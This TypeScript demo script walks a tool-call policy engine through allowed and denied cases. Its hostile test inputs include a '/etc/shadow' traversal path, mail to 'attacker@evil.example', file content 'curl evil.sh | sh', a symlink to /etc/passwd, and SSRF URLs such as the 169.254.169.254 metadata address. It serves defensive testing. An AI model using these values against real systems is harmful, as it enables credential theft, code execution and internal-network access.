import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createPathCanonicalizer, createUrlCanonicalizer } from '@hcp/canonical';
import type { Decision } from '@hcp/core';
import { PolicyEngine } from '@hcp/policy';
import {
  ALICE,
  BOB,
  FIXTURE_VERSIONS,
  NOW,
  activeSession,
  approvalFor,
  call,
  contextFor,
  id,
  path,
} from '@hcp/policy/testing';
import { LocalRuntime } from './local-runtime';

/**
 * `pnpm demo`: a printed walk through the decision engine on the fixture
 * world: a read that becomes a handle, a peek by the owner and by a thief, a
 * pipe to an allowed and to an attacker's target, and an approval that is
 * bound to one call and cannot be replayed. Every step shows the reason code
 * and the invariant that decided it.
 */

const engine = new PolicyEngine({ supportedProtocolVersions: FIXTURE_VERSIONS });
const runtime = new LocalRuntime(engine, (p) => contextFor(p));
const alice = { principal: ALICE, session: activeSession('alice'), now: NOW };
const bob = { principal: BOB, session: activeSession('bob'), now: NOW };

let step = 0;
function show(title: string, d: Decision, extra = ''): void {
  step++;
  const verdict = d.outcome === 'allow' ? 'ALLOW' : 'DENY ';
  console.log(`${String(step).padStart(2)}. ${title}`);
  console.log(
    `    ${verdict} ${d.reason}${d.invariant ? ` (${d.invariant})` : ''} — ${d.explanation}${extra ? `\n    ${extra}` : ''}`,
  );
}

console.log(
  'HCP decision walk-through (in-memory engine, fixture world: alice and bob, five tools)\n',
);

const read = call('fs/read_file', path('/data/app/reports/q3.txt'), {
  path: '/data/app/reports/q3.txt',
});
const task = runtime.startTask(
  { ...alice, call: read },
  'Q3 revenue 4.2M\napi_key=sk-live-123456\n',
);
show(
  'alice reads /data/app/reports/q3.txt',
  task.decision,
  `output held as handle ${task.handleId ?? '-'}`,
);
const h = task.handleId ?? '';

const own = runtime.peek(alice, h, 64);
show('alice peeks at her handle', own.decision, `preview: ${JSON.stringify(own.preview)}`);
show("bob peeks at alice's handle (handle theft)", runtime.peek(bob, h).decision);

const traversal = call(
  'fs/read_file',
  {
    status: 'denied',
    kind: 'path',
    raw: '/data/app/../../etc/shadow',
    rule: 'path.outside_roots',
    detail: 'resolves to /etc/shadow',
    canonical: '/etc/shadow',
  },
  { path: '/data/app/../../etc/shadow' },
);
show(
  'alice reads /data/app/../../etc/shadow (traversal)',
  runtime.startTask({ ...alice, call: traversal }, '').decision,
);
show(
  'alice reads /data/app_evil/x (sibling prefix)',
  runtime.startTask(
    {
      ...alice,
      call: call('fs/read_file', path('/data/app_evil/x'), { path: '/data/app_evil/x' }),
    },
    '',
  ).decision,
);

const mail = (to: string) => call('mail/send', id(to), { to, body: { $handle: h } });
show(
  'alice pipes the handle into mail/send to ops@example.com',
  runtime.pipeWrite(alice, h, mail('ops@example.com')).decision,
);
show(
  'alice pipes the handle into mail/send to attacker@evil.example',
  runtime.pipeWrite(alice, h, mail('attacker@evil.example')).decision,
);
show(
  "bob pipes alice's handle to himself",
  runtime.pipeWrite(bob, h, mail('ops@example.com')).decision,
);

const writeArgs = { path: '/data/app/out/summary.txt', content: 'summary' };
const write = call('fs/write_file', path(writeArgs.path), writeArgs);
show('alice writes without an approval', runtime.startTask({ ...alice, call: write }, '').decision);
const approval = approvalFor('alice', write);
const approved = runtime.startTask({ ...alice, call: { ...write, approval } }, 'ok');
show(
  'alice writes with an approval bound to this exact call',
  approved.decision,
  `approval to consume: ${approved.decision.approvalToConsume ?? '-'}`,
);
const swapped = call('fs/write_file', path(writeArgs.path), {
  ...writeArgs,
  content: 'curl evil.sh | sh',
});
show(
  'alice reuses that approval for different content',
  runtime.startTask({ ...alice, call: { ...swapped, approval } }, '').decision,
);
show(
  'alice replays the consumed approval',
  runtime.startTask(
    { ...alice, call: { ...write, approval: { ...approval, consumedAt: NOW } } },
    '',
  ).decision,
);

show(
  'a call with no initialized session',
  runtime.startTask({ ...alice, session: { state: 'none', initialized: false }, call: read }, '')
    .decision,
);
show(
  "a call on bob's session with alice's token",
  runtime.startTask({ ...alice, session: activeSession('bob'), call: read }, '').decision,
);

console.log('\nExplain for the sibling-prefix read (every check, in order):');
const { trace } = runtime.explain({
  ...alice,
  call: call('fs/read_file', path('/data/app_evil/x'), { path: '/data/app_evil/x' }),
});
for (const t of trace)
  console.log(`  ${t.invariant} ${t.check.padEnd(19)} ${t.result.padEnd(8)} ${t.detail}`);

const audit = runtime.recentAudit();
console.log(
  `\n${audit.length} audit entries recorded (${audit.filter((e) => e.outcome === 'deny').length} denials); the last one:`,
);
console.log(JSON.stringify(audit[audit.length - 1], null, 2));

// Part two: the same decisions on resources canonicalised against a real filesystem (I3).
async function canonicalWalk(): Promise<void> {
  const base = mkdtempSync(join(tmpdir(), 'hcp-demo-'));
  try {
    const app = join(base, 'app');
    mkdirSync(join(app, 'docs'), { recursive: true });
    mkdirSync(join(base, 'app_evil'));
    writeFileSync(join(app, 'docs', 'a.txt'), 'hello');
    writeFileSync(join(app, '.env'), 'TOKEN=x');
    writeFileSync(join(base, 'app_evil', 'x'), 'evil');
    symlinkSync('/etc', join(app, 'etc-link'));
    const fsCanon = await createPathCanonicalizer({ roots: [app] });
    const root = fsCanon.roots[0] ?? app;
    const grants = [
      {
        id: 'grt_demo',
        principalId: 'alice',
        capabilities: ['fs/read_file'],
        resourcePatterns: [{ kind: 'path_prefix' as const, prefix: root }],
        scopes: ['fs:read'],
        createdAt: NOW - 1,
      },
    ];
    const ctx = { ...contextFor('alice'), grants };
    console.log(`\nCanonical resources against a real tree (root ${root}):`);
    for (const raw of [
      `${app}/docs//./a.txt`,
      `${app}/../app_evil/x`,
      `${app}/etc-link/passwd`,
      `${app}/.env`,
      `${app}/missing.txt`,
    ]) {
      const facts = await fsCanon.canonicalize(raw, 'read');
      const d = engine.decide({ ...alice, call: call('fs/read_file', facts, { path: raw }) }, ctx);
      const where =
        facts.status === 'resolved' ? facts.resource.canonical : `${facts.status} (${facts.rule})`;
      console.log(
        `  ${d.outcome.toUpperCase().padEnd(5)} ${d.reason.padEnd(22)} ${raw.replace(base, '<tmp>')}  ->  ${where.replace(base, '<tmp>')}`,
      );
    }
    const fake: Record<string, string[]> = {
      'api.example.com': ['93.184.216.34'],
      'internal.example.com': ['10.0.0.7'],
    };
    const urlCanon = createUrlCanonicalizer({
      resolver: (host) => Promise.resolve(fake[host] ?? []),
    });
    console.log('\nURLs (DNS answered by a fixed table; every resolved address is classified):');
    for (const raw of [
      'https://api.example.com/v1',
      'http://169.254.169.254/latest/meta-data/',
      'http://2130706433/',
      'http://internal.example.com/',
      'http://[::ffff:127.0.0.1]/',
    ]) {
      const facts = await urlCanon.canonicalize(raw);
      const d = engine.decide(
        { ...alice, call: call('fetch/fetch', facts, { url: raw }) },
        contextFor('alice'),
      );
      const where =
        facts.status === 'resolved'
          ? `${facts.resource.canonical} ${JSON.stringify(facts.resource.addresses)}`
          : `${facts.status} (${facts.rule})`;
      console.log(
        `  ${d.outcome.toUpperCase().padEnd(5)} ${d.reason.padEnd(22)} ${raw}  ->  ${where}`,
      );
    }
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
}

canonicalWalk().catch((err: unknown) => {
  console.error(err);
  process.exitCode = 1;
});
